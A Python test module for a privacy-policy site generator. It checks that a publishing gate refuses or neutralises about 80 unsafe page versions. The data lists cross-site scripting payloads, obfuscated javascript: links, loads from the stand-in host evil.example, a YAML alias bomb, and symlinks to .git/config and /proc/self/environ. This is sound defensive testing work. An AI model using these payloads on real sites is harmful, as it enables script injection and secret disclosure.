"""The gate's catalogue: unsafe inputs, each committed as a dated version and run through `policy history`.

Every unsafe input is refused with a finding of the safety classes (output check, raw HTML, front
matter, sources), or published neutralised: then its pages pass the output check and hold no
handler or script URL (tests/e2e/test_gate_browser.py loads them in Chromium). Benign look-alikes
are published unchanged. One history of ~80 versions: the gate judges each on its own commit.
"""
from __future__ import annotations

import contextlib
import datetime as dt
import io
import json
import os
import re
import subprocess
from pathlib import Path

import pytest

from helpers import ROOT, git, one_language_project
from policy_repo import once_for_the_run
from policysite import safety

SAFETY_RULES = re.compile(r"\[(safety\.|editorial\.html|editorial\.image|editorial\.link-target|editorial\.struck|"
                          r"editorial\.stacked|render\.read-apart|frontmatter\.|source\.|build\.)")
# Front matter whose date cannot be read: git history never takes such a commit for a version.
NO_DATE = {"date-twice", "date-compact", "date-week", "meta-alias-bomb"}
BASE_DATE = dt.date(2001, 1, 1)

# (name, kind, payload): kind "body" inserts Markdown in section 2; "meta" adds front matter lines;
# "page" replaces the whole page (bytes); "file" adds a file beside the page; "link" a symlink there.
UNSAFE: list[tuple[str, str, object]] = [
    ("script", "body", "<script>alert(1)</script>"),
    ("img-onerror", "body", "<img src=x onerror=alert(1)>"),
    ("a-javascript", "body", '<a href="javascript:alert(1)">x</a>'),
    ("a-tab-entity", "body", '<a href="java&#9;script:alert(1)">x</a>'),
    ("a-decimal-entity", "body", '<a href="&#106;avascript:alert(1)">x</a>'),
    ("a-mixed-case", "body", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("a-leading-space", "body", '<a href=" javascript:alert(1)">x</a>'),
    ("a-vbscript", "body", '<a href="vbscript:msgbox(1)">x</a>'),
    ("a-data", "body", '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>'),
    ("svg-onload", "body", "<svg onload=alert(1)>"),
    ("svg-script", "body", "<svg><script>alert(1)</script></svg>"),
    ("iframe", "body", '<iframe src="https://evil.example/"></iframe>'),
    ("object", "body", '<object data="https://evil.example/x.swf"></object>'),
    ("embed", "body", '<embed src="https://evil.example/x">'),
    ("form", "body", '<form action="https://evil.example/"><input name=q></form>'),
    ("base", "body", '<base href="https://evil.example/">'),
    ("meta-refresh", "body", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    ("link-stylesheet", "body", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("style-url", "body", "<style>body{background:url(https://evil.example/x.png)}</style>"),
    ("style-attr-url", "body", '<p style="background:url(//evil.example/x.png)">x</p>'),
    ("img-srcset", "body", '<img srcset="https://evil.example/x.png 1x">'),
    ("details-ontoggle", "body", "<details open ontoggle=alert(1)>x</details>"),
    ("math-xlink", "body", '<math><a xlink:href="javascript:alert(1)">x</a></math>'),
    ("comment-short-close", "body", "<!--><script>alert(1)</script>-->"),
    ("comment-bang-close", "body", "<!-- --!><script>alert(1)</script> -->"),
    ("comment-dash-close", "body", "<!---><img src=x onerror=alert(1)>-->"),
    ("noscript-title", "body", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    ("video-poster", "body", '<video poster="https://evil.example/x.png"></video>'),
    ("audio-src", "body", '<audio src="https://evil.example/x.mp3"></audio>'),
    ("table-background", "body", '<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>'),
    ("a-onclick", "body", '<a href="#s1" onclick="alert(1)">x</a>'),
    ("nested-script", "body", "<scr<script>ipt>alert(1)</script>"),
    ("script-src", "body", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    ("tilde-fence", "body", "~~~\n<script>alert(1)</script>\n~~~"),
    ("long-fence-unclosed", "body", "````\n<script>alert(1)</script>\n```"),
    ("indented-fence", "body", "   ```\n<img src=x onerror=alert(1)>\n   ```"),
    ("html-after-list", "body", "- item\n\n    <img src=x onerror=alert(1)>"),
    ("indented-html-block", "body", "    <script>alert(1)</script>"),
    ("attr-link-onclick", "body", '[x](https://example.test/){onclick="alert(1)"}'),
    ("attr-paragraph-onclick", "body", 'Plain paragraph.\n{: onclick="alert(1)"}'),
    ("attr-heading", "body", "### 2.1 Sub {: onmouseover=alert(1) }\n\nText."),
    ("attr-image-onerror", "body", '![x](x.png){onerror="alert(1)"}'),
    ("attr-href", "body", '[x](https://example.test/){: href="javascript:alert(1)"}'),
    ("attr-style", "body", '[x](https://example.test/){style="background:url(https://evil.example/)"}'),
    ("attr-theme-id", "body", 'Paragraph text.\n{: #__config }'),
    ("speculation-rules", "body", '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/"]}]}</script>'),
    ("link-dns-prefetch", "body", '<link rel="dns-prefetch" href="//evil.example">'),
    ("input-image", "body", '<input type="image" src="https://evil.example/x.png">'),
    ("ref-javascript", "body", "[x][r]\n\n[r]: javascript:alert(1)"),
    ("ref-entity", "body", "[x][r]\n\n[r]: java&#x09;script:alert(1)"),
    ("autolink-javascript", "body", "<javascript:alert(1)>"),
    ("md-javascript", "body", "[x](javascript:alert(1))"),
    ("md-upper-javascript", "body", "[x](JAVASCRIPT:alert(1))"),
    ("md-data", "body", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("md-vbscript", "body", "[x](vbscript:msgbox)"),
    ("md-entity-javascript", "body", "[x](&#x6A;avascript:alert(1))"),
    ("image-other-host", "body", "![logo](https://cdn.example/logo.png)"),
    ("image-protocol-relative", "body", "![logo](//cdn.example/logo.png)"),
    ("image-backslashes", "body", "![logo](\\\\cdn.example/logo.png)"),
    ("image-reference", "body", "![x][i]\n\n[i]: https://cdn.example/x.png"),
    ("img-other-host", "body", '<img src="https://cdn.example/logo.png">'),
    ("meta-title", "meta", 'title: "</title><script>alert(1)</script>"'),
    ("meta-description", "meta", "description: '\"><script>alert(1)</script>'"),
    ("meta-template", "meta", "template: redirect.html"),
    ("meta-hide", "meta", "hide: [toc]"),
    ("meta-alias-bomb", "meta", "a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]"),
    ("date-twice", "meta", "date: 2000-01-01"),
    ("date-compact", "page", b"---\ndate: 20010101\n---\n\n# Policy\n\n## 1. One\n\nText.\n"),
    ("date-week", "page", b"---\ndate: 2001-W07-3\n---\n\n# Policy\n\n## 1. One\n\nText.\n"),
    ("date-future", "page", b"---\ndate: 2098-01-01\n---\n\n# Policy\n\n## 1. One\n\nText.\n"),
    ("not-utf8", "page", None),  # the base page with one Latin-1 byte, filled in below
    ("symlink-git-config", "link", "../../.git/config"),
    ("symlink-environ", "link", "/proc/self/environ"),
    # safety hunt 39: a front matter only the checks read (MkDocs shows it as text); fine print nested in
    # marks that shrink it; words struck out or hidden under marks piled on a character; the theme's configuration id
    ("meta-no-day", "meta", "summary: 2001-02-30\n# Opt out at [our form](https://example.org/)"),
    ("sub-nested", "body", "Kept safe" + "<sub>" * 10 + " and sold" + "</sub>" * 10 + "."),
    ("struck-out", "body", "We do n\u0336o\u0336t\u0336 sell your data."),
    ("marks-piled", "body", "One year." + "\u0305\u0304\u0332\u0333\u030d\u030e" * 25),
    ("theme-id", "body", '<span id="__config">{"base": "https://evil.example/"}</span>'),
    ("extra-html", "file", "<script>alert(1)</script>"),
    ("extra-markdown", "file", "# Another page\n"),
]
BENIGN: list[tuple[str, str, object]] = [
    ("code-span", "body", "Write `<script>alert(1)</script>` to see nothing happen."),
    ("escaped", "body", "The text &lt;script&gt;alert(1)&lt;/script&gt; is only text."),
    ("other-site-link", "body", "Read [the regulator's guide](https://www.example.org/guide)."),
    ("mail-link", "body", "Write to [the office](mailto:office@example.test)."),
    ("crlf", "crlf", None),
]


def page(date: str, *, body: str = "", meta: str = "") -> str:
    extra = f"{meta}\n" if meta else ""
    return (f"---\ndate: {date}\n{extra}---\n\n# Example privacy policy\n\n## 1. First section\n\nAlpha paragraph.\n\n"
            f"## 2. Second section\n\nBravo paragraph.\n\n{body}\n")


def one_language_repo(path: Path) -> Path:
    """A git repository holding Example Org's English-only project, its page left to each case."""
    one_language_project(path)
    (path / "docs" / "en" / "index.md").unlink()
    git(path, "init", "-q", "-b", "main")
    return path


def commit_case(repo: Path, n: int, name: str, kind: str, payload: object) -> tuple[str, str]:
    """Commit one case as the version dated BASE_DATE + n days; returns (date, commit)."""
    date = (BASE_DATE + dt.timedelta(days=n)).isoformat()
    docs = repo / "docs" / "en"
    for extra in docs.iterdir():
        if extra.name != "index.md":
            extra.unlink()
    index = docs / "index.md"
    if kind == "body":
        index.write_text(page(date, body=str(payload)), encoding="utf-8")
    elif kind == "meta":
        index.write_text(page(date, meta=str(payload)), encoding="utf-8")
    elif kind == "page":
        data = payload if payload is not None else page(date, body="Caf\xe9.").encode("latin-1")
        index.write_bytes(data)
    elif kind == "crlf":
        index.write_bytes(page(date, body="Lines end in CRLF.").replace("\n", "\r\n").encode("utf-8"))
    else:
        index.write_text(page(date), encoding="utf-8")
        if kind == "link":
            (docs / f"{name}.md").symlink_to(str(payload))
        else:
            (docs / f"{name}.{'html' if name.endswith('html') else 'md'}").write_text(str(payload), encoding="utf-8")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", name, date=f"2024-01-01T12:00:{n % 60:02d}+00:00")
    return date, git(repo, "rev-parse", "HEAD").strip()


@pytest.fixture(scope="module")
def catalogue(tmp_path_factory) -> dict:
    return catalogue_for_the_run(tmp_path_factory)


def catalogue_for_the_run(tmp_path_factory: pytest.TempPathFactory) -> dict:
    """`run_catalogue` once for the whole run (`once_for_the_run`), whichever of this module and the browser test
    (tests/e2e/test_gate_browser.py) asks first: both read the same repository and outcome, never changing them."""
    def make(folder: Path) -> None:
        made = run_catalogue(folder / "project")
        kept = {**{key: value for key, value in made.items() if key != "repo"}, "published": sorted(made["published"])}
        (folder / "catalogue.json").write_text(json.dumps(kept), encoding="utf-8")

    folder = once_for_the_run(tmp_path_factory, "gate-catalogue", make)
    kept = json.loads((folder / "catalogue.json").read_text(encoding="utf-8"))
    return {**kept, "repo": folder / "project", "cases": {name: tuple(case) for name, case in kept["cases"].items()},
            "second": tuple(kept["second"]), "published": set(kept["published"])}


def run_catalogue(path: Path, *, unsafe: list[tuple[str, str, object]] | None = None,
                  benign: list[tuple[str, str, object]] | None = None) -> dict:
    """The catalogue committed as one history and run through `policy history`, in this process: once, which
    refuses the unsafe versions and publishes none (a failed command changes nothing), then again after each
    refused version is recorded in unpublished.yml, as a legal team would, which publishes the rest.

    Spelling is switched off here, so that each refusal is the safety layers' own (an attribute
    name such as `onclick` is no English word, and would be refused for that alone).
    """
    from policysite import cli, spelling

    unsafe, benign = UNSAFE if unsafe is None else unsafe, BENIGN if benign is None else benign
    repo = one_language_repo(path)
    cases: dict[str, tuple[str, str, str]] = {}
    for n, (name, kind, payload) in enumerate([*unsafe, *benign], 1):
        date, commit = commit_case(repo, n, name, kind, payload)
        cases[name] = (date, commit, "unsafe" if (name, kind, payload) in unsafe else "benign")
    patch = pytest.MonkeyPatch()
    patch.setattr(spelling, "check", lambda *args, **kwargs: [])
    patch.setattr(spelling, "lint_words", lambda *args, **kwargs: [])
    patch.setenv("GIT_CONFIG_GLOBAL", os.devnull)

    def history() -> tuple[int, str, str]:
        out, err = io.StringIO(), io.StringIO()
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            code = cli.main(["--root", str(repo), "history"])
        return code, out.getvalue(), err.getvalue()

    try:
        code, stdout, stderr = history()
        first_branch = subprocess.run(["git", "rev-parse", "--verify", "--quiet", "gh-pages"], cwd=repo,
                                      capture_output=True).returncode == 0
        refused = refusals(stderr)
        for extra in (repo / "docs" / "en").iterdir():  # the tip as the last case left it: the exceptions only
            if extra.name != "index.md":
                extra.unlink()
        (repo / "unpublished.yml").write_text("".join(f"- commit: {commit}\n  reason: refused by the gate\n"
                                                      for commit in refused), encoding="utf-8")
        git(repo, "add", "-A")
        git(repo, "commit", "-q", "-m", "record the refused versions", date="2024-06-01T12:00:00+00:00")
        second = history()
    finally:
        patch.undo()
    branch = subprocess.run(["git", "rev-parse", "--verify", "--quiet", "gh-pages"], cwd=repo, capture_output=True)
    published = {path.split("/")[1] for path in git(repo, "ls-tree", "-d", "--name-only", "gh-pages", "en/").split()} \
        if branch.returncode == 0 else set()
    return {"repo": repo, "cases": cases, "code": code, "stdout": stdout, "stderr": stderr,
            "first_branch": first_branch, "second": second, "published": published}


def refusals(stderr: str) -> dict[str, str]:
    """Each refused version's block of findings in `policy history`'s output, by its commit (7 characters)."""
    blocks = re.split(r"^error: (?=\d{4}-\d{2}-\d{2} \(commit)", stderr, flags=re.M)
    return {re.search(r"\(commit (\w+)\)", block).group(1): block for block in blocks[1:]}


def outcome(catalogue: dict, name: str) -> str:
    """`refused`, `published`, or `no version` (no valid date: history never takes it for a version)."""
    date, commit, _ = catalogue["cases"][name]
    if commit[:7] in refusals(catalogue["stderr"]):
        return "refused"
    if date in catalogue["published"]:
        return "published"
    return "no version"


def test_the_catalogue_is_large_enough():
    assert len(UNSAFE) >= 60 and len(BENIGN) >= 4


def test_history_fails_without_a_traceback_and_publishes_nothing_until_the_refused_are_recorded(catalogue):
    assert catalogue["code"] == 1, catalogue["stdout"] + catalogue["stderr"]
    assert "Traceback" not in catalogue["stderr"]
    assert "refused by the checks" in catalogue["stderr"]
    assert not catalogue["first_branch"] and "gh-pages is as it was" in catalogue["stdout"]
    code, stdout, stderr = catalogue["second"]
    assert code == 0, stdout + stderr
    assert "never published, as unpublished.yml records: refused by the gate" in stdout


@pytest.mark.parametrize("name", [case[0] for case in UNSAFE])
def test_each_unsafe_input_is_refused_or_neutralised(catalogue, name):
    date, commit, _ = catalogue["cases"][name]
    result = outcome(catalogue, name)
    if result == "refused":
        block = refusals(catalogue["stderr"])[commit[:7]]
        assert SAFETY_RULES.search(block), block
        assert date not in catalogue["published"]
        return
    if result == "no version":  # an invalid date: never a version (`policy check` names it on the branch tip)
        assert name in NO_DATE, name
        assert commit[:12] not in git(catalogue["repo"], "log", "--format=%s", "gh-pages")
        return
    # Published: then neutralised, as the output check and a reading of the parsed page show.
    from selectolax.lexbor import LexborHTMLParser

    from policysite import safety

    html = git(catalogue["repo"], "show", f"gh-pages:en/{date}/index.html")
    assert safety.check_page(html, file="index.html", theme_dirs=THEME_DIRS) == []
    article = LexborHTMLParser(html).css_first("article")
    for node in article.traverse(include_text=False):
        assert node.tag not in ("script", "iframe", "object", "embed"), node.html
        assert node.tag != "img" or not safety._is_foreign(node.attributes.get("src") or ""), node.html
        for attr, value in node.attributes.items():
            assert not attr.lower().startswith("on"), node.html
            assert not re.match(r"\s*(javascript|vbscript|data):", value or "", re.I), node.html


@pytest.mark.parametrize("name", [case[0] for case in BENIGN])
def test_each_benign_look_alike_is_published_unchanged(catalogue, name):
    date, commit, _ = catalogue["cases"][name]
    assert outcome(catalogue, name) == "published", refusals(catalogue["stderr"]).get(commit[:7])
    html = git(catalogue["repo"], "show", f"gh-pages:en/{date}/index.html")
    expected = {"code-span": "<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>",
                "escaped": "&lt;script&gt;alert(1)&lt;/script&gt; is only text",
                "other-site-link": '<a href="https://www.example.org/guide">the regulator\'s guide</a>',
                "mail-link": '<a href="mailto:office@example.test">the office</a>',
                "crlf": "Lines end in CRLF."}[name]
    assert expected in html


def test_counts(catalogue, capsys):
    """The closing note quotes these: refused, neutralised, no version, benign published."""
    counts = {}
    for name, (_date, _commit, kind) in catalogue["cases"].items():
        key = (kind, outcome(catalogue, name))
        counts[key] = counts.get(key, 0) + 1
    with capsys.disabled():
        print(f"\ngate catalogue: {counts}")
    assert counts.get(("benign", "published")) == len(BENIGN)
    assert counts.get(("unsafe", "refused"), 0) >= 55


THEME_DIRS = safety.installed_theme_dirs(ROOT)
